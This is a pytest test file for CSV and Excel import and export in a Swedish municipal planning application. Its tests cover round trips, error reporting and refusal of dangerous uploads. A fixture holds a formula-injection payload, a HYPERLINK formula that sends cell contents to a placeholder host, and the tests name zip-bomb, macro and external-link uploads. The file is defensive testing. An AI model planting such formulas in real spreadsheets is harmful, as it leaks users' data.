"""CSV and Excel import/export of activities: one format, round trips, every error named,
all or nothing."""

import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from lagesbild.plan.models import Activity, Plan
from lagesbild.plan.transfer import (
    COLUMNS,
    ImportError_,
    export_csv,
    export_xlsx,
    import_activities,
)
from lagesbild.stats.catalogue import indicator_ids
from tests.plan.conftest import OTHER, OWN


def snapshot(plan):
    return list(
        plan.activities.order_by("ref").values_list(
            "ref", "parent__ref", "title", "area_keys", "indicators", "department__name",
            "status", "progress", "weight", "start", "end",
        )
    )  # fmt: skip


def empty_plan_like(plan):
    return Plan.objects.create(
        policy=plan.policy, title="Kopia", start_year=2026, end_year=2029, lagesbild_year=2025
    )


def do_import(plan, raw, name):
    return import_activities(plan, raw, name, indicator_ids())


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_into_an_empty_plan_round_trips(plan, fmt):
    export = export_csv if fmt == "csv" else export_xlsx
    raw = export(plan)
    copy = empty_plan_like(plan)
    assert do_import(copy, raw, f"insatser.{fmt}") == (4, 0)
    assert snapshot(copy) == snapshot(plan)
    if fmt == "csv":
        assert export_csv(copy) == raw  # byte for byte


def test_csv_and_excel_carry_the_same_columns_and_values(plan):
    csv_lines = export_csv(plan).decode("utf-8-sig").splitlines()
    ws = load_workbook(io.BytesIO(export_xlsx(plan))).active
    rows = list(ws.iter_rows(values_only=True))
    assert csv_lines[0].split(",") == COLUMNS == list(rows[0])
    assert len(rows) == len(csv_lines) == 5
    by_ref = {r[0]: r for r in rows[1:]}
    assert by_ref["S1.2"][COLUMNS.index("del_av")] == "S1"
    assert by_ref["S1.2"][COLUMNS.index("framsteg")] == 40
    assert by_ref["S1"][COLUMNS.index("omraden")] == "sprak;arbete"


def test_importing_the_export_again_changes_nothing_and_writes_no_history(plan):
    before = snapshot(plan)
    history = Activity.history.count()
    assert do_import(plan, export_csv(plan), "insatser.csv") == (0, 0)
    assert snapshot(plan) == before
    assert Activity.history.count() == history


def test_import_updates_by_id_and_creates_new_ones(plan):
    text = export_csv(plan).decode("utf-8-sig")
    text = text.replace("Kartläggning,", "Kartläggning klar,")
    text += "N1,S1,Ny delinsats,,sprak,,Utbildningsförvaltningen,,,,2026-09-01,2027-06-30,planerad,0,1\n"
    assert do_import(plan, text.encode("utf-8"), "i.csv") == (1, 1)
    n1 = plan.activities.get(ref="N1")
    assert n1.parent.ref == "S1" and n1.start.isoformat() == "2026-09-01"
    assert plan.activities.get(ref="S1.1").title == "Kartläggning klar"


def test_semicolon_separated_csv_from_excel_is_read(plan):
    text = export_csv(plan).decode("utf-8-sig")
    import csv

    rows = list(csv.reader(io.StringIO(text)))
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerows(rows)
    copy = empty_plan_like(plan)
    assert do_import(copy, out.getvalue().encode("utf-8"), "excel.csv") == (4, 0)


def csv_with(plan, ref, **changes):
    """The plan's export with one row's columns changed."""
    import csv

    rows = list(csv.reader(io.StringIO(export_csv(plan).decode("utf-8-sig"))))
    for row in rows[1:]:
        if row[0] == ref:
            for column, value in changes.items():
                row[COLUMNS.index(column)] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode("utf-8")


@pytest.mark.parametrize(
    "ref, changes, row, column, message",
    [
        ("H1", {"status": "nästan klar"}, 2, "status", "okänd status 'nästan klar'"),
        ("H1", {"framsteg": "150"}, 2, "framsteg", "ska vara ett heltal 0–100"),
        ("H1", {"framsteg": "mycket"}, 2, "framsteg", "är inte ett tal"),
        ("H1", {"vikt": "-1"}, 2, "vikt", "vikten ska vara ett tal 0–9999"),
        ("H1", {"forvaltning": "Tekniska förvaltningen"}, 2, "forvaltning", "okänd förvaltning"),
        ("H1", {"omraden": "boende"}, 2, "omraden", "okänt policyområde 'boende'"),
        ("H1", {"indikatorer": "N99999"}, 2, "indikatorer", "okänd indikator 'N99999'"),
        ("H1", {"start": "1 juni"}, 2, "start", "ogiltigt datum '1 juni'"),
        ("H1", {"start": "2027-01-01", "slut": "2026-01-01"}, 2, "slut", "slutdatum ligger före"),
        ("H1", {"kontakt_epost": "inte-en-adress"}, 2, "kontakt_epost", "ogiltig e-postadress"),
        ("H1", {"titel": ""}, 2, "titel", "får inte vara tomt"),
        ("H1", {"del_av": "X9"}, 2, "del_av", "okänd insats 'X9'"),
        ("S1.1", {"id": "S1.2"}, 5, "id", "finns redan på rad 4"),
        ("S1", {"del_av": "S1.1"}, 3, "del_av", "cirkel"),
    ],
)
def test_a_bad_row_is_named_and_nothing_is_stored(plan, ref, changes, row, column, message):
    # Rows in the export: H1 (2), S1 (3), S1.1 (4), S1.2 (5). Good changes in other rows must not be stored either: all or nothing.
    raw = csv_with(plan, ref, **changes).replace(b"Kurser", "Ändrade kurser".encode())
    before = snapshot(plan)
    with pytest.raises(ImportError_) as excinfo:
        do_import(plan, raw, "insatser.csv")
    texts = [str(e) for e in excinfo.value.errors]
    assert any(
        f"insatser.csv, rad {row}, kolumn '{column}'" in t and message in t for t in texts
    ), texts
    assert snapshot(plan) == before


def test_every_bad_row_is_reported_at_once(plan):
    raw = csv_with(plan, "H1", status="x", framsteg="101")
    with pytest.raises(ImportError_) as excinfo:
        do_import(plan, raw, "f.csv")
    assert [str(e) for e in excinfo.value.errors] == [
        "f.csv, rad 2, kolumn 'status': okänd status 'x'; tillåtna: avbruten, klar, pausad, "
        "planerad, pågår",
        "f.csv, rad 2, kolumn 'framsteg': ska vara ett heltal 0–100, inte '101'",
    ]


def test_missing_and_unknown_columns_are_named(plan):
    raw = "id,titel,farg\nX1,Ny,blå\n".encode()
    with pytest.raises(ImportError_) as excinfo:
        do_import(plan, raw, "f.csv")
    text = str(excinfo.value)
    assert "f.csv, rad 1: kolumner saknas: del_av" in text
    assert "okända kolumner: farg" in text


@pytest.mark.parametrize(
    "raw, name, message",
    [
        ("id,titel\n".encode("utf-16"), "f.csv", "inte UTF-8"),
        (b"", "f.csv", "filen är tom"),
        (b"PK\x03\x04 not really a workbook", "f.xlsx", "kan inte läsas som Excel-fil"),
        (b"id;titel", "f.txt", "ska vara .csv eller .xlsx"),
    ],
)
def test_unreadable_files_are_refused_with_the_file_named(plan, raw, name, message):
    before = snapshot(plan)
    with pytest.raises(ImportError_) as excinfo:
        do_import(plan, raw, name)
    assert str(excinfo.value).startswith(name) and message in str(excinfo.value)
    assert snapshot(plan) == before


def test_excel_with_a_bad_cell_names_row_and_column(plan):
    wb = Workbook()
    ws = wb.active
    ws.append(COLUMNS)
    ws.append(["X1", "", "Ny", "", "", "", "Utbildningsförvaltningen", "", "", "", "igår", None,
               "planerad", 0, 1])  # fmt: skip
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(ImportError_) as excinfo:
        do_import(plan, out.getvalue(), "plan.xlsx")
    assert "plan.xlsx, rad 2, kolumn 'start': ogiltigt datum 'igår'" in str(excinfo.value)
    assert not Activity.objects.filter(ref="X1").exists()


def test_import_page_lists_errors_and_stores_nothing(plan, users, client_for):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    raw = csv_with(plan, "H1", status="okänd")
    response = client_for(users["coordinator"]).post(
        reverse("plan:import", args=[plan.pk]),
        {"file": SimpleUploadedFile("insatser.csv", raw)},
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert "Ingenting lästes in" in page
    assert "insatser.csv, rad 2, kolumn &#x27;status&#x27;" in page


# Every column filled ------------------------------------------------------------------------


@pytest.fixture
def full_plan(policy, departments):
    """A plan whose activities fill every column: three levels of parent and child, dates,
    fractional weights, texts with commas, quotes, semicolons and a line break."""
    plan = Plan.objects.create(
        policy=policy, title="Fylld plan", start_year=2026, end_year=2029, lagesbild_year=2025
    )
    own, other = departments[OWN], departments[OTHER]
    a1 = Activity.objects.create(
        plan=plan, ref="A1", title="Språkcafé för föräldrar, med barnpassning",
        description='Två träffar i veckan.\nI samarbete med biblioteket; "öppet för alla".',
        area_keys=["sprak", "demokrati-delaktighet"],
        indicators=["sfi-klarat-tva-kurser", "sysselsattning-20-64"], department=own,
        contact_name="Åsa Öberg", contact_email="asa.oberg@karlshamn.se",
        partners="Röda Korset, ABF Blekinge", start=datetime.date(2026, 9, 1),
        end=datetime.date(2027, 6, 30), status="pågår", progress=35, weight=Decimal("2.5"),
    )  # fmt: skip
    a11 = Activity.objects.create(
        plan=plan, ref="A1.1", parent=a1, title="Barnpassning", description="Frivilliga från ABF.",
        area_keys=["sprak"], indicators=["sfi-klarat-tva-kurser"], department=other,
        contact_name="Karim Haddad", contact_email="karim.haddad@karlshamn.se",
        partners="ABF Blekinge", start=datetime.date(2026, 9, 15),
        end=datetime.date(2026, 12, 18), status="klar", progress=100, weight=Decimal("0.75"),
    )  # fmt: skip
    Activity.objects.create(
        plan=plan, ref="A1.1.1", parent=a11, title="Lokal för barnpassningen",
        description="Ett rum bredvid caféet.", area_keys=["sprak"], indicators=["ohalsotal"],
        department=other, contact_name="Lena Ek", contact_email="lena.ek@karlshamn.se",
        partners="Karlshamns bibliotek", start=datetime.date(2026, 8, 3),
        end=datetime.date(2026, 8, 31), status="pausad", progress=10, weight=Decimal("12.25"),
    )  # fmt: skip
    return plan


def every_field(plan):
    return [
        {
            "ref": a.ref,
            "parent": a.parent.ref if a.parent else None,
            "title": a.title,
            "description": a.description,
            "area_keys": a.area_keys,
            "indicators": a.indicators,
            "department": a.department.name,
            "contact_name": a.contact_name,
            "contact_email": a.contact_email,
            "partners": a.partners,
            "start": a.start,
            "end": a.end,
            "status": a.status,
            "progress": a.progress,
            "weight": a.weight,
        }
        for a in plan.activities.select_related("parent", "department").order_by("ref")
    ]


FULL_PLAN = [
    {
        "ref": "A1",
        "parent": None,
        "title": "Språkcafé för föräldrar, med barnpassning",
        "description": 'Två träffar i veckan.\nI samarbete med biblioteket; "öppet för alla".',
        "area_keys": ["sprak", "demokrati-delaktighet"],
        "indicators": ["sfi-klarat-tva-kurser", "sysselsattning-20-64"],
        "department": "Utbildningsförvaltningen",
        "contact_name": "Åsa Öberg",
        "contact_email": "asa.oberg@karlshamn.se",
        "partners": "Röda Korset, ABF Blekinge",
        "start": datetime.date(2026, 9, 1),
        "end": datetime.date(2027, 6, 30),
        "status": "pågår",
        "progress": 35,
        "weight": Decimal("2.50"),
    },
    {
        "ref": "A1.1",
        "parent": "A1",
        "title": "Barnpassning",
        "description": "Frivilliga från ABF.",
        "area_keys": ["sprak"],
        "indicators": ["sfi-klarat-tva-kurser"],
        "department": "Socialförvaltningen",
        "contact_name": "Karim Haddad",
        "contact_email": "karim.haddad@karlshamn.se",
        "partners": "ABF Blekinge",
        "start": datetime.date(2026, 9, 15),
        "end": datetime.date(2026, 12, 18),
        "status": "klar",
        "progress": 100,
        "weight": Decimal("0.75"),
    },
    {
        "ref": "A1.1.1",
        "parent": "A1.1",
        "title": "Lokal för barnpassningen",
        "description": "Ett rum bredvid caféet.",
        "area_keys": ["sprak"],
        "indicators": ["ohalsotal"],
        "department": "Socialförvaltningen",
        "contact_name": "Lena Ek",
        "contact_email": "lena.ek@karlshamn.se",
        "partners": "Karlshamns bibliotek",
        "start": datetime.date(2026, 8, 3),
        "end": datetime.date(2026, 8, 31),
        "status": "pausad",
        "progress": 10,
        "weight": Decimal("12.25"),
    },
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_column_survives_export_and_import_field_by_field(full_plan, fmt):
    # Guards: an empty partner column, the description not read, Excel dropping the dates,
    # a weight of 2.5 cut to 2, contact persons, indicators, areas and parents lost.
    export = export_csv if fmt == "csv" else export_xlsx
    assert every_field(full_plan) == FULL_PLAN
    copy = empty_plan_like(full_plan)
    assert do_import(copy, export(full_plan), f"insatser.{fmt}") == (3, 0)
    imported = every_field(copy)
    for want, got in zip(FULL_PLAN, imported, strict=True):
        for field, value in want.items():
            assert (want["ref"], field, got[field]) == (want["ref"], field, value)


def test_csv_export_writes_every_column_as_documented(full_plan):
    assert export_csv(full_plan).decode("utf-8") == (
        "\ufeffid,del_av,titel,beskrivning,omraden,indikatorer,forvaltning,kontaktperson,"
        "kontakt_epost,partner,start,slut,status,framsteg,vikt,agenda2030\n"
        'A1,,"Språkcafé för föräldrar, med barnpassning","Två träffar i veckan.\n'
        'I samarbete med biblioteket; ""öppet för alla"".",sprak;demokrati-delaktighet,'
        "sfi-klarat-tva-kurser;sysselsattning-20-64,Utbildningsförvaltningen,Åsa Öberg,"
        'asa.oberg@karlshamn.se,"Röda Korset, ABF Blekinge",2026-09-01,2027-06-30,pågår,35,'
        "2.50,\n"
        "A1.1,A1,Barnpassning,Frivilliga från ABF.,sprak,sfi-klarat-tva-kurser,"
        "Socialförvaltningen,Karim Haddad,karim.haddad@karlshamn.se,ABF Blekinge,2026-09-15,"
        "2026-12-18,klar,100,0.75,\n"
        "A1.1.1,A1.1,Lokal för barnpassningen,Ett rum bredvid caféet.,sprak,ohalsotal,"
        "Socialförvaltningen,Lena Ek,lena.ek@karlshamn.se,Karlshamns bibliotek,2026-08-03,"
        "2026-08-31,pausad,10,12.25,\n"
    )


def test_excel_export_holds_dates_as_date_cells_and_weights_as_numbers(full_plan):
    ws = load_workbook(io.BytesIO(export_xlsx(full_plan)))["Insatser"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[1] == (
        "A1", None, "Språkcafé för föräldrar, med barnpassning",
        'Två träffar i veckan.\nI samarbete med biblioteket; "öppet för alla".',
        "sprak;demokrati-delaktighet", "sfi-klarat-tva-kurser;sysselsattning-20-64",
        "Utbildningsförvaltningen", "Åsa Öberg", "asa.oberg@karlshamn.se",
        "Röda Korset, ABF Blekinge", datetime.datetime(2026, 9, 1),
        datetime.datetime(2027, 6, 30), "pågår", 35, 2.5, None,
    )  # fmt: skip
    assert [ws.cell(row=2, column=c).number_format for c in (11, 12)] == ["yyyy-mm-dd"] * 2


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_text_that_looks_like_a_formula_stays_text(full_plan, fmt):
    # Excel export used to write "=…" as a formula: the import read it back as empty.
    full_plan.activities.filter(ref="A1").update(
        description="=samma som 2025, se bilaga", partners="+46 Föreningen"
    )
    export = export_csv if fmt == "csv" else export_xlsx
    copy = empty_plan_like(full_plan)
    do_import(copy, export(full_plan), f"insatser.{fmt}")
    a1 = copy.activities.get(ref="A1")
    assert (a1.description, a1.partners) == ("=samma som 2025, se bilaga", "+46 Föreningen")


# Formula injection (issue #16, finding 1) ---------------------------------------------------

FORMULA_TITLES = {
    "H1": '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")',
    "S1": "-5 % arbetslöshet",
    "S1.1": "@SUMMA(A1)",
    "S1.2": "'=1+1",  # already starts with the apostrophe: it must come back with it
}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_write_formula_like_text_as_text_and_import_it_back(plan, fmt):
    import csv

    for ref, title in FORMULA_TITLES.items():
        plan.activities.filter(ref=ref).update(title=title, partners="+46 Föreningen")
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(export_csv(plan).decode("utf-8-sig"))))
        cells = {r[0]: r for r in rows[1:]}
    else:
        ws = load_workbook(io.BytesIO(export_xlsx(plan))).active
        assert not [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
        cells = {r[0]: r for r in ws.iter_rows(min_row=2, values_only=True)}
        assert cells["H1"][COLUMNS.index("framsteg")] == 20  # numbers stay numbers
    title, partner = COLUMNS.index("titel"), COLUMNS.index("partner")
    assert {ref: cells[ref][title] for ref in FORMULA_TITLES} == {
        ref: "'" + text for ref, text in FORMULA_TITLES.items()
    }
    assert cells["H1"][partner] == "'+46 Föreningen"
    copy = empty_plan_like(plan)
    do_import(copy, export_csv(plan) if fmt == "csv" else export_xlsx(plan), f"i.{fmt}")
    assert dict(copy.activities.values_list("ref", "title")) == FORMULA_TITLES
    assert snapshot(copy) == snapshot(plan)


# Numbers that are not numbers (issue #16, finding 8) ----------------------------------------


@pytest.mark.parametrize("value", ["sNaN", "-sNaN", "NaN", "Infinity", "-Infinity", "1e999"])
@pytest.mark.parametrize(
    "column, message", [("framsteg", "ska vara ett heltal 0–100"), ("vikt", "vikten ska vara")]
)
def test_nan_and_infinity_in_numbers_are_row_messages_on_the_import_page(
    plan, users, client_for, value, column, message
):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    before = snapshot(plan)
    raw = csv_with(plan, "H1", **{column: value})
    response = client_for(users["coordinator"]).post(
        reverse("plan:import", args=[plan.pk]), {"file": SimpleUploadedFile("i.csv", raw)}
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert f"i.csv, rad 2, kolumn &#x27;{column}&#x27;: {message}" in page
    assert snapshot(plan) == before


# Upload checks before the import reads anything (issue #16, finding 2) ------------------------


def _changed_xlsx(plan):
    """The plan's Excel export with H1's title changed: importing it would store something."""
    ws_book = load_workbook(io.BytesIO(export_xlsx(plan)))
    ws = ws_book.active
    for row in ws.iter_rows(min_row=2):
        if row[0].value == "H1":
            row[COLUMNS.index("titel")].value = "Ändrad titel"
    out = io.BytesIO()
    ws_book.save(out)
    return out.getvalue()


def _bad_upload(plan, kind):
    from tests.core import spreadsheets

    if kind == "csv-rows":
        return "insatser.csv", csv_with(plan, "H1", titel="Ändrad titel"), "har fler än 3 rader"
    if kind == "csv-size":
        return "insatser.csv", csv_with(plan, "H1", titel="Ändrad titel"), "är för stor"
    if kind == "xlsx-rows":
        return "insatser.xlsx", _changed_xlsx(plan), "har fler än 3 rader"
    if kind == "bomb":
        raw = spreadsheets.bomb(_changed_xlsx(plan))
        return "insatser.xlsx", raw, "packar upp till orimligt mycket data"
    if kind == "member-bomb":
        raw = spreadsheets.member_bomb(_changed_xlsx(plan))
        return "insatser.xlsx", raw, "packar upp till orimligt mycket data (xl/sharedStrings2"
    if kind == "xlsm":
        raw = spreadsheets.with_members(_changed_xlsx(plan), macro_type=True)
        return "insatser.xlsx", raw, "är ingen Excel-arbetsbok"
    members, message = spreadsheets.BAD_MEMBERS[kind]
    return "insatser.xlsx", spreadsheets.with_members(_changed_xlsx(plan), members), message


@pytest.mark.parametrize(
    "kind",
    ["csv-rows", "csv-size", "xlsx-rows", "bomb", "member-bomb", "xlsm", "macro",
     "excel4-macro", "external-link", "connection", "activex", "embedding", "stranger"],
)  # fmt: skip
def test_the_import_page_refuses_a_bad_file_before_reading_it(
    plan, users, client_for, settings, kind
):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    name, raw, message = _bad_upload(plan, kind)
    if kind.endswith("-rows"):
        settings.LAGESBILD_MAX_UPLOAD_ROWS = 3  # the export has 5 lines
    if kind == "csv-size":
        settings.LAGESBILD_MAX_UPLOAD_BYTES = 200
    before = snapshot(plan)
    response = client_for(users["coordinator"]).post(
        reverse("plan:import", args=[plan.pk]), {"file": SimpleUploadedFile(name, raw)}
    )
    page = response.content.decode().replace("&#x27;", "'")
    assert response.status_code == 200
    assert f"{name} " in page and message in page
    assert snapshot(plan) == before


def test_the_import_page_still_reads_the_plans_own_excel_export(plan, users, client_for):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    response = client_for(users["coordinator"]).post(
        reverse("plan:import", args=[plan.pk]),
        {"file": SimpleUploadedFile("insatser.xlsx", _changed_xlsx(plan))},
    )
    assert response.status_code == 302
    assert plan.activities.get(ref="H1").title == "Ändrad titel"
